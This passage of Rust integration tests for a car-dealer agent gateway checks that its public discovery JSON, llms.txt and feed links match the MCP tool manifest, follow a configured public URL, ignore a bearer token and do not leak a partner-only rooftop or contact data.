    assert_revalidates(&app, "/.well-known/dealer-agent-gateway.json", &got).await;
    let doc: Value = serde_json::from_str(&got.body).expect("JSON");
    assert_valid(GATEWAY_DOC, &doc);

    let manifest = app
        .call_tool("dealeragent.discovery.get_manifest", json!({}))
        .await["structuredContent"]
        .clone();
    assert_eq!(doc["mcp"]["endpoint"], json!(app.url));
    assert_eq!(
        doc["mcp"]["revisions"],
        manifest["extensions"]["dealergateway.mcp"]["revisions"]
    );
    for member in [
        "organization_ids",
        "rooftop_ids",
        "auth_modes",
        "schema_base_uri",
        "policy_uri",
        "conformance",
        "gateway_id",
        "operator",
    ] {
        assert_eq!(doc[member], manifest[member], "{member}");
    }
    let profiles = |v: &Value| -> BTreeSet<String> {
        v.as_array()
            .into_iter()
            .flatten()
            .map(|p| p["profile"].as_str().unwrap().to_owned())
            .collect()
    };
    let mut in_manifest = profiles(&manifest["capabilities"]);
    in_manifest.extend(profiles(
        &manifest["extensions"]["dealergateway.extensions"]["profiles"],
    ));
    assert_eq!(profiles(&doc["profiles"]), in_manifest);
    let native = &doc["protocols"][0];
    assert_eq!(native["native"], json!(true));
    assert_eq!(native["endpoint"], json!(app.url));
    let dap_profiles: BTreeSet<String> = native["profiles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_owned())
        .collect();
    assert_eq!(dap_profiles, profiles(&manifest["capabilities"]));
    let aap = doc["protocols"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["protocol"] == json!("auto-agent-protocol"))
        .expect("AAP listed");
    assert_eq!(aap["native"], json!(false));
    assert_eq!(aap["kind"], json!("compatibility_adapter"));
    assert_eq!(aap["not_offered"][0]["tool"], json!("aap_lead_submit"));
    // The AAP endpoint of every listed organization, each answering with
    // exactly the adapter's tools.
    assert_eq!(
        aap["endpoint_template"],
        json!("/aap/{organization_id}/mcp")
    );
    let endpoints = aap["endpoints"].as_array().expect("AAP endpoints");
    let endpoint_orgs: Vec<Value> = endpoints
        .iter()
        .map(|e| e["organization_id"].clone())
        .collect();
    assert_eq!(json!(endpoint_orgs), manifest["organization_ids"]);
    for e in endpoints {
        let mut client = TestApp::attach(&app.base());
        client.url = e["endpoint"].as_str().unwrap().to_owned();
        let listed: BTreeSet<String> =
            client.modern("tools/list", json!({})).await.result()["tools"]
                .as_array()
                .expect("tools/list on an AAP endpoint")
                .iter()
                .filter_map(|t| t["name"].as_str().map(str::to_owned))
                .collect();
        let adapter: BTreeSet<String> = aap["tools"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|t| t.as_str().map(str::to_owned))
            .collect();
        assert_eq!(listed, adapter, "{e}");
        // Its metadata names it as the resource.
        let metadata = common::send(
            app.http.get(
                e["protected_resource_metadata"]
                    .as_str()
                    .expect("metadata URL"),
            ),
        )
        .await;
        assert_eq!(metadata.status, 200, "{}", metadata.raw);
        assert_eq!(metadata.body["resource"], e["endpoint"], "{e}");
    }
    let tools: BTreeSet<String> = doc["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap().to_owned())
        .collect();
    let catalog: BTreeSet<String> = manifest["extensions"]["dealergateway.catalog"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap().to_owned())
        .collect();
    assert_eq!(tools, catalog);
    assert!(served_tools(&app).await.is_subset(&tools));
    // One feed per organization of the anonymous manifest, each served.
    let feed_orgs: Vec<Value> = doc["feeds"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["organization_id"].clone())
        .collect();
    assert_eq!(json!(feed_orgs), manifest["organization_ids"]);
    for f in doc["feeds"].as_array().unwrap() {
        let path = f["url"]
            .as_str()
            .unwrap()
            .strip_prefix(&app.base())
            .unwrap()
            .to_owned();
        get_ok(&app, &path).await;
    }
    // Two public organizations and none configured: no static publication.
    assert_eq!(
        doc["static_publication"],
        json!({"uri": format!("{}/.well-known/dealer-agent.json", app.base()), "organization_id": null})
    );
    assert!(!got.body.contains(FLEET), "{}", got.body);
    assert!(!got.body.contains('@'), "no contact data: {}", got.body);
}

#[tokio::test]
async fn llms_txt_names_every_served_tool_the_feeds_and_the_rules() {
    let app = common::spawn().await;
    let got = get_ok(&app, "/llms.txt").await;
    assert_eq!(
        header(&got.headers, "content-type"),
        "text/plain; charset=utf-8"
    );
    assert_revalidates(&app, "/llms.txt", &got).await;
    let text = &got.body;
    assert!(text.starts_with("# "), "Markdown title");
    assert!(
        text.contains(&format!("[{url}]({url})", url = app.url)),
        "{text}"
    );
    let gateway_doc = format!("{}/.well-known/dealer-agent-gateway.json", app.base());
    assert!(text.contains(&format!("[{gateway_doc}]({gateway_doc})")));
    for org in [LAKESHORE, MAPLECREST] {
        let feed = format!("{}/feeds/{org}/inventory.csv", app.base());
        assert!(text.contains(&format!("[{feed}]({feed})")), "{org}");
        let aap = format!("{}/aap/{org}/mcp", app.base());
        assert!(
            text.contains(&format!("[{org}]({aap})")),
            "AAP endpoint of {org}"
        );
    }
    for tool in served_tools(&app).await {
        assert!(text.contains(&format!("`{tool}`")), "{tool} is not named");
    }
    for rule in [
        "Verify availability before presenting a unit as available",
        "Never present a conditional offer as the price",
        "Never call an unknown charge zero",
    ] {
        assert!(text.contains(rule), "missing rule: {rule}");
    }
    assert!(text.contains("Not offered: `aap_lead_submit`"));
    assert!(text.contains("compatibility adapter"));
    assert!(!text.contains(FLEET), "the partner-only rooftop is named");
}

#[tokio::test]
async fn every_document_follows_the_configured_public_url_and_ignores_credentials() {
    let app = common::spawn_with(|s| {
        s.public_url = Some("https://dealer.example.test/".to_owned());
        s.publication_organization = Some(MAPLECREST.to_owned());
    })
    .await;
    let got = get_ok(&app, "/.well-known/dealer-agent.json").await;
    let doc: Value = serde_json::from_str(&got.body).unwrap();
    assert_eq!(doc["gateway"], json!("https://dealer.example.test/mcp"));
    assert_eq!(
        doc["published_feed"]["url"],
        json!(format!(
            "https://dealer.example.test/feeds/{MAPLECREST}/inventory.csv"
        ))
    );
    let gw = get_ok(&app, "/.well-known/dealer-agent-gateway.json").await;
    let gw: Value = serde_json::from_str(&gw.body).unwrap();
    assert_eq!(
        gw["llms_txt"],
        json!("https://dealer.example.test/llms.txt")
    );
    assert_eq!(
        gw["static_publication"]["organization_id"],
        json!(MAPLECREST)
    );
    let text = get_ok(&app, "/llms.txt").await.body;
    assert!(text.contains("[https://dealer.example.test/mcp](https://dealer.example.test/mcp)"));
    // A credential changes nothing: the documents are public.
    for path in [
        "/.well-known/dealer-agent.json",
        "/.well-known/dealer-agent-gateway.json",
    ] {
        let plain = get_ok(&app, path).await.body;
        let with_token = app
            .http
            .get(format!("{}{path}", app.base()))
            .header("authorization", "Bearer not-a-credential")
            .send()
            .await
            .unwrap();
        assert_eq!(with_token.status(), 200);
        assert_eq!(with_token.text().await.unwrap(), plain);
    }
}
